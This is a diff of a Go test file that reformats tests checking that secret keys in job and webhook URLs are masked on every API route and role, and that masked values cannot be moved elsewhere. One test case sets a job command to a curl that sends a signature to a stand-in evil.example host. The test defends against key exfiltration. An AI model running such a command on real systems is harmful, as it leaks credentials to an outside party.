@@ -14,9 +14,13 @@ import (
 
 // keyed is a job that starts another one with a key in the query, as such jobs
 // are written.
-const keyed = `{"id":7,"type":"cmd","conf":{"cmd":"curl https://c.example/?sig=hush-3","cmd_env":{"API_TOKEN":"hush-4"}},"notify":"https://n.example/?token=hush-5",
-	"webhooks":[{"url":"https://latch.example/v2/jobs/1/:actions?API_KEY=hush-1&a=1","event_type":"JOB_SUCCESS"},
-	{"url":"https://hooks.slack.com/services/T1/B1/hush-2","event_type":"JOB_FAILURE","headers":{"Authorization":"Bearer hush-6"}}]}`
+const keyed = `{"id":7,"type":"cmd",
+	"conf":{"cmd":"curl https://c.example/?sig=hush-3","cmd_env":{"API_TOKEN":"hush-4"}},
+	"notify":"https://n.example/?token=hush-5",
+	"webhooks":[
+		{"url":"https://latch.example/v2/jobs/1/:actions?API_KEY=hush-1&a=1","event_type":"JOB_SUCCESS"},
+		{"url":"https://hooks.slack.com/services/T1/B1/hush-2","event_type":"JOB_FAILURE",
+			"headers":{"Authorization":"Bearer hush-6"}}]}`
 
 // A key in a registered job's URLs is shown to nobody, by no route.
 func TestRegisteredURLsAreShownWithoutKeys(t *testing.T) {
@@ -34,7 +38,8 @@ func TestRegisteredURLsAreShownWithoutKeys(t *testing.T) {
 	require.Equal(t, "https://hooks.slack.com/services/***", webhooks[1]["url"])
 	one := "/webhooks/" + strings.TrimSuffix(string(apitest.Encode(t, webhooks[0]["id"])), ".0")
 	for _, role := range []string{"admin", "run", "lock", "read"} {
-		for _, path := range []string{"/v2/jobs", "/v2/jobs/7", "/api/v2/jobs/7", "/api/job/7", "/v2/jobs/7/webhooks", "/webhooks", "/api/webhooks", one, "/v2/bulk/jobs", "/v2/jobs/search"} {
+		for _, path := range []string{"/v2/jobs", "/v2/jobs/7", "/api/v2/jobs/7", "/api/job/7", "/v2/jobs/7/webhooks",
+			"/webhooks", "/api/webhooks", one, "/v2/bulk/jobs", "/v2/jobs/search"} {
 			got := apitest.Call(handler, "GET", path, "", "X-API-Key", role)
 			require.Equal(t, 200, got.Code, "%s %s", path, got.Body)
 			require.NotContains(t, got.Body.String(), "hush", "%s as %s", path, role)
@@ -102,9 +107,11 @@ func TestHiddenKeysAreNotTaken(t *testing.T) {
 		{"POST", "/v2/jobs/7/webhooks", moved, "body.url"},
 		{"POST", "/v2/jobs", `{"title":"new","webhooks":[` + moved + `]}`, "body.webhooks[0]"},
 		{"PATCH", "/v2/jobs/7", `{"conf":{"cmd":"curl https://evil.example/?sig=***"}}`, "body.conf"},
-		{"POST", "/latch/v1/releases", `{"id":"r","steps":[{"name":"a","do":{"http":{"url":"https://a.example/?token=***"}}}]}`, "body.steps[0].do.http.url"},
+		{"POST", "/latch/v1/releases",
+			`{"id":"r","steps":[{"name":"a","do":{"http":{"url":"https://a.example/?token=***"}}}]}`, "body.steps[0].do.http.url"},
 		{"POST", "/latch/v1/webhooks", `{"id":"w","url":"https://a.example/?token=***","event":"JOB_SUCCESS"}`, "body.url"},
-		{"PUT", "/latch/v1/webhooks/w", `{"url":"https://a.example/","headers":{"Authorization":"***"},"event":"JOB_SUCCESS"}`, "body.headers.Authorization"},
+		{"PUT", "/latch/v1/webhooks/w",
+			`{"url":"https://a.example/","headers":{"Authorization":"***"},"event":"JOB_SUCCESS"}`, "body.headers.Authorization"},
 	} {
 		answer := b.do(422, test.method, test.path, test.body)
 		require.Contains(t, answer, `"location":"`+test.location+`"`, test.body)
